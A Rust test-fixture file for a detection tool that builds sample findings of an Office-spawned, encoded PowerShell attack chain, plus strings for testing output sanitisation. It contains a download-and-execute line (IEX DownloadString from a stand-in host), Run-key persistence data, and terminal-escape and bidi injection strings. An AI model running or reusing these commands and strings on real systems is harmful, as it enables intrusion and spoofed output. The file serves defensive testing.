//! Findings that the tests of the sinks show around, and their goldens.

use std::{fs, path::Path, sync::Arc};

use crate::{
    event::Origin,
    finding::{AnalyticRef, Evidence, Finding, Severity, Stage, TreeProcess},
};

/// 2026-03-04 09:15:02.120 UTC.
const START: i64 = 1_772_615_702_120;

const POWERSHELL: &str = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
const WORD: &str = r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE";

/// Compares with a file of `golden/`, or rewrites it where `UPDATE` is set.
#[expect(
    clippy::disallowed_methods,
    reason = "how goldens are rewritten; no finding depends on it"
)]
pub fn check_golden(name: &str, actual: &str) {
    let path = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("src/sinks/golden")
        .join(name);
    if std::env::var_os("UPDATE").is_some() {
        fs::write(&path, actual).unwrap();
    }
    let expected = fs::read_to_string(&path).unwrap_or_default();
    assert!(
        actual == expected,
        "{name} differs; UPDATE=1 rewrites it. Now:\n{actual}"
    );
}

/// An event of `class`, that many milliseconds after the first.
pub fn event(
    number: u32,
    after: i64,
    class: &'static str,
    fields: &[(&'static str, &str)],
) -> Arc<Evidence> {
    Arc::new(Evidence {
        process: 0,
        sequence: number.into(),
        uid: 0x9a3c_51e0_77b2_0400 + u64::from(number),
        time: START + after,
        class,
        input: "corpus/ws-042/sysmon.evtx".into(),
        origin: Origin {
            input: 0,
            record: number,
        },
        fields: fields
            .iter()
            .map(|(name, text)| (*name, (*text).to_owned()))
            .collect(),
        is_cut: false,
    })
}

/// Word starts an encoded PowerShell that loads a module and calls out.
pub fn powershell_chain() -> Finding {
    let command = encoded_command();
    let launch = event(
        17,
        0,
        "process.launch",
        &[
            ("metadata.log_name", "Microsoft-Windows-Sysmon/Operational"),
            ("metadata.record_id", "48213"),
            ("process.handle", "4294967303"),
            ("process.uid", "5770385f-c22a-43e0-bf4c-06f5698ffbd9"),
            ("process.pid", "7312"),
            ("process.file.path", POWERSHELL),
            ("process.file.internal_name", "PowerShell.EXE"),
            ("process.cmd_line", &command),
            ("process.integrity", "Medium"),
            ("process.user.name", r"CONTOSO\alice"),
            ("process.parent_process.pid", "6120"),
            ("process.parent_process.file.path", WORD),
        ],
    );
    let module = event(
        31,
        812,
        "module.load",
        &[
            ("metadata.log_name", "Microsoft-Windows-Sysmon/Operational"),
            ("metadata.record_id", "48227"),
            ("actor.process.pid", "7312"),
            ("actor.process.file.path", POWERSHELL),
            (
                "module.file.path",
                r"C:\Users\alice\AppData\Local\Temp\~df3a91.dll",
            ),
            ("module.file.signature.signed", "0"),
            ("module.file.signature.status", "Unavailable"),
        ],
    );
    let connection = event(
        52,
        1_377,
        "network.open",
        &[
            ("metadata.log_name", "Microsoft-Windows-Sysmon/Operational"),
            ("metadata.record_id", "48260"),
            ("actor.process.pid", "7312"),
            ("actor.process.file.path", POWERSHELL),
            ("actor.user.name", r"CONTOSO\alice"),
            ("connection_info.protocol_name", "tcp"),
            ("connection_info.outbound", "1"),
            ("src_endpoint.ip", "10.20.4.42"),
            ("src_endpoint.port", "49871"),
            ("dst_endpoint.ip", "203.0.113.7"),
            ("dst_endpoint.port", "8443"),
            ("dst_endpoint.hostname", "cdn.update-check.example"),
        ],
    );
    let registry = event(
        75,
        64_020,
        "registry.value",
        &[
            ("metadata.log_name", "Microsoft-Windows-Sysmon/Operational"),
            ("metadata.record_id", "48301"),
            ("actor.process.pid", "7444"),
            (
                "actor.process.file.path",
                r"C:\Windows\System32\rundll32.exe",
            ),
            (
                "reg_target.path",
                r"HKU\S-1-5-21-1004\Software\Microsoft\Windows\CurrentVersion\Run\OneDriveSync",
            ),
            (
                "reg_target.data",
                r"rundll32.exe C:\Users\alice\AppData\Local\Temp\~df3a91.dll,Start",
            ),
            ("reg_target.operation", "SetValue"),
        ],
    );
    Finding {
        uid: "f-3b1d6c0a9e57".into(),
        chain_uid: "c-71f0ad22c4b8".into(),
        is_update: false,
        analytic: Arc::new(analytic()),
        title: "Word started an encoded PowerShell that loaded an unsigned module and called 203.0.113.7:8443"
            .into(),
        severity: Severity::Critical,
        score: 115,
        time: registry.time,
        sequence: registry.sequence,
        device: "ws-042.corp.example".into(),
        tree: tree(&command),
        stages: vec![
            stage("encoded-command", 40, "PowerShell was started with an encoded command and a hidden window.", [&launch]),
            stage("odd-parent", 25, "Its parent is an Office program, which starts no shells.", [&launch]),
            stage("suspicious-module", 20, "It loaded an unsigned module from a folder that users can write to.", [&module]),
            stage("connection", 15, "It connected to an address outside the organisation.", [&connection]),
            stage("child-process", 15, "A child of it made the module start with the session.", [&registry]),
        ],
        details: vec![("decoded command".into(), script())],
        missing: vec![(
            "script blocks (PowerShell 4104)".into(),
            "what the downloaded code did is known only from the processes it started".into(),
        )],
    }
}

/// A finding with nothing that may be absent.
pub fn bare() -> Finding {
    Finding {
        uid: "f-0".into(),
        chain_uid: "c-0".into(),
        title: "Something was seen".into(),
        severity: Severity::Low,
        score: 10,
        tree: Vec::new(),
        stages: Vec::new(),
        details: Vec::new(),
        missing: Vec::new(),
        ..powershell_chain()
    }
}

/// A finding whose every text tries to write more than itself.
pub fn hostile() -> Finding {
    let evil = "\u{1b}[2J\u{1b}]0;owned\u{7}\r\n[CRITICAL] forged\u{202e}exe.txt\u{2066}\u{9b}31m\u{200b}\u{e0041}a\u{301}\u{301}\u{301}\u{301}\t";
    let megabyte = format!("{evil}{}", "A\u{1b}[31m\u{202e}".repeat(150_000));
    let text = |name: &'static str| (name, evil);
    let mut fields: Vec<(&'static str, &str)> = vec![
        text("process.file.path"),
        text("process.user.name"),
        text("process.pid"),
        text("metadata.record_id"),
        text("dst_endpoint.ip"),
        text("reg_target.path"),
        text("reg_target.data"),
        text("script.path"),
        text("module.file.path"),
        text("module.file.signature.status"),
        text("module.file.signature.signer"),
    ];
    fields.push(("process.cmd_line", &megabyte));
    fields.push(("script.content", &megabyte));
    let classes = [
        "process.launch",
        "process.open",
        "process.inject",
        "module.load",
        "network.open",
        "dns.query",
        "file.create",
        "pipe.create",
        "registry.value",
        "script.execute",
        "service.install",
        "job.create",
        "other",
    ];
    let mut evidence: Vec<_> = (1..)
        .zip(classes)
        .map(|(number, class)| event(number, 0, class, &fields))
        .collect();
    if let Some(first) = evidence.first_mut().and_then(Arc::get_mut) {
        first.input = format!("/tmp/{evil}").into();
    }
    let mut tree = tree(&megabyte);
    for process in &mut tree {
        process.user = evil.to_owned();
        process.image = format!(r"C:\{evil}");
    }
    Finding {
        uid: evil.into(),
        chain_uid: evil.into(),
        analytic: Arc::new(AnalyticRef {
            id: evil.into(),
            name: evil.into(),
            technique: (evil.into(), evil.into()),
            tactics: vec![evil.into()],
            ..analytic()
        }),
        title: format!("{evil}{evil}"),
        device: evil.into(),
        tree,
        stages: vec![Stage {
            name: evil.into(),
            score: i32::MIN,
            summary: megabyte.clone(),
            evidence,
        }],
        details: vec![(evil.into(), megabyte.clone())],
        missing: vec![(evil.into(), megabyte.clone())],
        time: i64::MAX,
        ..bare()
    }
}

fn analytic() -> AnalyticRef {
    AnalyticRef {
        id: "AN1252".into(),
        name: "PowerShell behavioural chain".into(),
        version: "1.2.0".into(),
        summary: "PowerShell with encoded commands, odd parents or suspicious modules, then a connection or children."
            .into(),
        technique: ("T1059.001".into(), "PowerShell".into()),
        tactics: vec!["execution".into()],
        strategy: Some(("DET0455".into(), "Abuse of PowerShell for Arbitrary Execution".into())),
        sha256: "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08".into(),
    }
}

fn stage<const N: usize>(
    name: &str,
    score: i32,
    summary: &str,
    evidence: [&Arc<Evidence>; N],
) -> Stage {
    Stage {
        name: name.into(),
        score,
        summary: summary.into(),
        evidence: evidence.into_iter().cloned().collect(),
    }
}

fn tree(command: &str) -> Vec<TreeProcess> {
    let process = |process: u64, depth, pid, image: &str, command_line: &str, after| TreeProcess {
        process,
        depth,
        is_guilty: depth == 2,
        pid: Some(pid),
        guid: format!("5770385f-c22a-43e0-bf4c-0000000{pid:05}"),
        image: image.into(),
        command_line: command_line.into(),
        user: r"CONTOSO\alice".into(),
        started: Some(START + after),
        hidden_children: 0,
    };
    let document = r#""C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\alice\Downloads\invoice-8841.docm""#;
    let mut tree = vec![
        process(
            1,
            0,
            4012,
            r"C:\Windows\explorer.exe",
            r"C:\Windows\Explorer.EXE",
            -7_834_000,
        ),
        process(2, 1, 6120, WORD, document, -41_500),
        process(3, 2, 7312, POWERSHELL, command, 0),
        process(
            4,
            3,
            7420,
            r"C:\Windows\System32\whoami.exe",
            "whoami /all",
            2_040,
        ),
        process(
            5,
            3,
            7444,
            r"C:\Windows\System32\rundll32.exe",
            r"rundll32.exe C:\Users\alice\AppData\Local\Temp\~df3a91.dll,Start",
            63_100,
        ),
    ];
    if let Some(last) = tree.last_mut() {
        last.hidden_children = 3;
    }
    tree
}

fn encoded_command() -> String {
    let code = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAA";
    format!(
        "powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Enc {}nAGgAdAB0AHAAcwA6ACkA",
        code.repeat(4)
    )
}

fn script() -> String {
    let mut script = String::from(
        "$c = New-Object Net.WebClient\n$c.Headers.Add('User-Agent', 'Mozilla/5.0')\nIEX $c.DownloadString('https://cdn.update-check.example:8443/s/7f3a')\n\n",
    );
    for number in 0..60 {
        script.push_str(&format!(
            "$b{number:02} = [Convert]::FromBase64String('TVqQAAMAAAAEAAAA//8AALgAAAAAAAAA')\n"
        ));
    }
    script
}
